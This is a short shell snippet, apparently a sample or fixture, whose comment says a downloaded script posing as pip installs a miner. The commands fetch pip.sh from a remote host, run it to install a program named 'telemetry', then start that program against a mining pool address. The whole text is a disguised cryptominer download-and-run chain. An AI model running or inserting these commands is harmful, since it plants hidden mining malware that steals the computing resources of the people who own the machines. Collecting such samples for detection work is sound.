# a downloaded script that calls itself pip installs a miner
#http 203.0.113.60:8010
#pool 198.51.100.113:443:drop
mkdir -p /opt/b && cd /opt/b && curl -so pip http://203.0.113.60:8010/pip.sh && chmod +x pip && ./pip install telemetry && timeout 12 telemetry -o 198.51.100.113:443 -u x -R 1 >/dev/null
